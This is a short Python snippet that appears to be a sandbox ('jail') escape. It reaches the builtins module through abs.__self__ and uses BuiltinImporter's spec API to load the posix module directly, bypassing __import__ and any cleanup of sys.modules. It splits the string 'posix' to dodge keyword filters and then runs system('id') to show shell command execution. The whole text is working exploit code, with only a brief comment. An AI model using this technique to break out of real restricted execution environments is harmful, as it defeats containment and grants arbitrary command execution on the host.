# builtins.__loader__ is the BuiltinImporter class; use its spec API to
# materialise a posix module directly, bypassing __import__ and any
# sys.modules poisoning the jail did.
B = abs.__self__
L = B.__loader__
spec = L.find_spec('po' + 'six')
mod = L.create_module(spec)
L.exec_module(mod)
print(mod.getpid(), mod.system('id'))
